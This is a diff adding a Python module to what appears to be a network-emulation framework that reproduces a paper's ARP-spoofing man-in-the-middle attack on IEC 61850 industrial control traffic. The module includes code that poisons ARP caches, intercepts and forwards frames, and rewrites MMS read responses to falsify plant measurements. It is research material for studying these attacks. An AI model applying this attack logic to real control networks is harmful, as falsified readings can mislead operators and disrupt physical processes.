@@ -1,0 +1,246 @@
+"""ARP-spoofing man-in-the-middle (paper §IV-B, Fig. 6).
+
+"Typically man-in-the-middle (MITM) attack is mounted by using a strategy
+called ARP spoofing.  This confuses the mapping between a device's logical
+(IP) address and physical address.  Using ARP spoofing, an attacker can
+mislead the traffic to itself for interception and manipulation.  As a
+consequence, the attacker could possibly mislead the SCADA HMI or the PLC
+to confuse the plant control."
+
+Three layers:
+
+* :class:`ArpSpoofer` — poisons two victims' caches periodically so their
+  mutual traffic flows through the attacker.
+* :class:`MitmPipeline` — installs a packet interceptor on the attacker
+  host: frames between the victims are (optionally) transformed, then
+  forwarded to the real destination MAC, keeping the attack transparent.
+* :class:`MeasurementSpoofer` — an MMS-aware transform: tracks read
+  requests (invoke id → references) and rewrites matching values in the
+  responses — the exact Fig. 6 scenario of falsifying a measurement.
+"""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Callable, Optional
+
+from repro.iec61850.codec import CodecError, decode_value, encode_value
+from repro.kernel import MS, SECOND
+from repro.netem.frames import (
+    ETHERTYPE_IPV4,
+    EthernetFrame,
+    Ipv4Packet,
+    TcpSegment,
+)
+from repro.netem.host import Host
+
+#: Re-poison interval; real tools (ettercap, arpspoof) use ~1-10 s.
+DEFAULT_REPOISON_US = 1 * SECOND
+
+
+class ArpSpoofer:
+    """Keeps two victims' ARP caches poisoned."""
+
+    def __init__(self, attacker: Host, victim_a_ip: str, victim_b_ip: str) -> None:
+        self.attacker = attacker
+        self.victim_a_ip = victim_a_ip
+        self.victim_b_ip = victim_b_ip
+        self._task = None
+        self.poison_count = 0
+
+    def start(self, repoison_us: int = DEFAULT_REPOISON_US) -> None:
+        """Resolve real MACs first, then begin poisoning."""
+        if self._task is not None:
+            return
+        # Legitimate ARP requests teach the attacker the victims' MACs
+        # (needed for transparent forwarding).
+        self.attacker._send_arp_request(self.victim_a_ip)
+        self.attacker._send_arp_request(self.victim_b_ip)
+        self._poison()
+        self._task = self.attacker.simulator.every(
+            repoison_us, self._poison, label="arp-spoof"
+        )
+
+    def stop(self) -> None:
+        if self._task is not None:
+            self._task.stop()
+            self._task = None
+
+    def _poison(self) -> None:
+        # Claim both victim IPs with the attacker's MAC.
+        self.attacker.send_gratuitous_arp(self.victim_a_ip)
+        self.attacker.send_gratuitous_arp(self.victim_b_ip)
+        self.poison_count += 1
+
+
+TransformFn = Callable[[Ipv4Packet, str], Optional[Ipv4Packet]]
+"""(packet, direction "a->b"/"b->a") → transformed packet, or None to drop."""
+
+
+class MitmPipeline:
+    """Intercept-transform-forward between two victims."""
+
+    def __init__(
+        self,
+        attacker: Host,
+        victim_a_ip: str,
+        victim_b_ip: str,
+        transform: Optional[TransformFn] = None,
+    ) -> None:
+        self.attacker = attacker
+        self.victim_a_ip = victim_a_ip
+        self.victim_b_ip = victim_b_ip
+        self.transform = transform
+        self.spoofer = ArpSpoofer(attacker, victim_a_ip, victim_b_ip)
+        self.intercepted = 0
+        self.forwarded = 0
+        self.dropped = 0
+        self.modified = 0
+
+    # ------------------------------------------------------------------
+    def start(self) -> None:
+        self.spoofer.start()
+        self.attacker.packet_interceptor = self._intercept
+
+    def stop(self) -> None:
+        self.spoofer.stop()
+        self.attacker.packet_interceptor = None
+
+    # ------------------------------------------------------------------
+    def _intercept(self, frame: EthernetFrame) -> bool:
+        if frame.ethertype != ETHERTYPE_IPV4:
+            return False
+        packet = frame.payload
+        if not isinstance(packet, Ipv4Packet):
+            return False
+        if packet.src_ip == self.victim_a_ip and packet.dst_ip == self.victim_b_ip:
+            direction = "a->b"
+        elif packet.src_ip == self.victim_b_ip and packet.dst_ip == self.victim_a_ip:
+            direction = "b->a"
+        else:
+            return False  # not our victims: let the host handle it normally
+        if frame.src_mac == self.attacker.mac:
+            return False  # our own forwarded frame echoed back
+        self.intercepted += 1
+        transformed: Optional[Ipv4Packet] = packet
+        if self.transform is not None:
+            transformed = self.transform(packet, direction)
+            if transformed is None:
+                self.dropped += 1
+                return True
+            if transformed is not packet:
+                self.modified += 1
+        self._forward(transformed)
+        return True
+
+    def _forward(self, packet: Ipv4Packet) -> None:
+        real_mac = self.attacker.arp_table.get(packet.dst_ip)
+        if real_mac is None or real_mac == self.attacker.mac:
+            # MAC not resolved yet (or self-poisoned): re-request and drop.
+            self.attacker._send_arp_request(packet.dst_ip)
+            self.dropped += 1
+            return
+        self.forwarded += 1
+        self.attacker.send_frame(
+            EthernetFrame(
+                src_mac=self.attacker.mac,
+                dst_mac=real_mac,
+                ethertype=ETHERTYPE_IPV4,
+                payload=packet,
+            )
+        )
+
+
+class MeasurementSpoofer:
+    """MMS-aware transform falsifying read values (Fig. 6).
+
+    ``rewrites`` maps object references to either a constant or a callable
+    ``old_value -> new_value``.  Requests flow untouched (but their invoke
+    ids are recorded); responses carrying a tracked invoke id get the
+    matching positions of their result list rewritten.
+    """
+
+    def __init__(self, rewrites: dict[str, object]) -> None:
+        self.rewrites = rewrites
+        self._pending: dict[tuple[str, int], list[str]] = {}
+        self.rewritten_count = 0
+
+    # The transform entry point for MitmPipeline.
+    def __call__(
+        self, packet: Ipv4Packet, direction: str
+    ) -> Optional[Ipv4Packet]:
+        if not isinstance(packet.payload, TcpSegment):
+            return packet
+        segment = packet.payload
+        if not segment.payload:
+            return packet
+        new_payload = self._process_stream(packet, segment)
+        if new_payload is None:
+            return packet
+        return replace(packet, payload=replace(segment, payload=new_payload))
+
+    # ------------------------------------------------------------------
+    def _process_stream(
+        self, packet: Ipv4Packet, segment: TcpSegment
+    ) -> Optional[bytes]:
+        """Parse framed MMS messages; returns rewritten bytes or None."""
+        data = segment.payload
+        out = bytearray()
+        changed = False
+        offset = 0
+        while offset + 4 <= len(data):
+            length = int.from_bytes(data[offset : offset + 4], "big")
+            end = offset + 4 + length
+            if end > len(data):
+                return None  # partial frame: pass through untouched
+            body = data[offset + 4 : end]
+            new_body = self._process_message(packet, body)
+            if new_body is not None:
+                changed = True
+                out += len(new_body).to_bytes(4, "big") + new_body
+            else:
+                out += data[offset:end]
+            offset = end
+        if offset != len(data):
+            return None
+        return bytes(out) if changed else None
+
+    def _process_message(
+        self, packet: Ipv4Packet, body: bytes
+    ) -> Optional[bytes]:
+        try:
+            message = decode_value(body)
+        except CodecError:
+            return None
+        if not isinstance(message, dict):
+            return None
+        service = message.get("service")
+        invoke_id = message.get("invokeId", -1)
+        if service == "read" and "references" in message:
+            # Request: remember which references this invoke id asked for.
+            flow = (packet.src_ip, invoke_id)
+            self._pending[flow] = list(message.get("references", []))
+            return None
+        if service == "read" and "result" in message:
+            flow = (packet.dst_ip, invoke_id)
+            references = self._pending.pop(flow, None)
+            if references is None:
+                return None
+            results = message.get("result")
+            if not isinstance(results, list):
+                return None
+            changed = False
+            for position, reference in enumerate(references):
+                if reference not in self.rewrites or position >= len(results):
+                    continue
+                entry = results[position]
+                if not isinstance(entry, dict) or "value" not in entry:
+                    continue
+                rule = self.rewrites[reference]
+                old = entry["value"]
+                entry["value"] = rule(old) if callable(rule) else rule
+                changed = changed or entry["value"] != old
+            if changed:
+                self.rewritten_count += 1
+                return encode_value(message)
+        return None
